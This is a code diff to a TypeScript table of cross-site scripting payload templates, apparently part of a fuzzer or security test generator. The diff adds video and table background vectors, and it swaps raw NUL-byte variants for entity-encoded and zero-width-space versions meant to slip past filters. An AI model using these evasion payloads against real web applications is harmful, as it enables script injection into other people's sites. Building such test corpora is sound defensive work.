@@ -59,6 +59,8 @@ const TEMPLATES: Record<Family, string[]> = {
     '<keygen autofocus onfocus="$J">',
     '<img srcset="$U 1x">',
     '<picture><source srcset="$U"><img></picture>',
+    '<video poster="$U"></video>',
+    '<table background="$U"><tr><td>t</td></tr></table>',
   ],
   attributes: [
     '" onmouseover="$J" x="',
@@ -133,8 +135,10 @@ const TEMPLATES: Record<Family, string[]> = {
     '\\u003cimg src=x onerror=$J\\u003e',
     '+ADw-img src=x onerror=$J+AD4-',
     '\uff1cimg src=x onerror=$J\uff1e',
-    '<img src=x on\u0000error="$J">',
-    '<scr\u0000ipt>$J</scr\u0000ipt>',
+    // NUL itself cannot be stored (PostgreSQL text; the API refuses it with 400): its entity and look-alikes instead.
+    '<img src=x on&#0;error="$J">',
+    '<scr&#0;ipt>$J</scr&#0;ipt>',
+    '<img src=x on\u200berror="$J">',
     '&amp;lt;script&amp;gt;$J&amp;lt;/script&amp;gt;',
     '<img src=x onerror="&#x5f;&#x5f;xss($N)">',
     '\u202e<img src=x onerror="$J">',
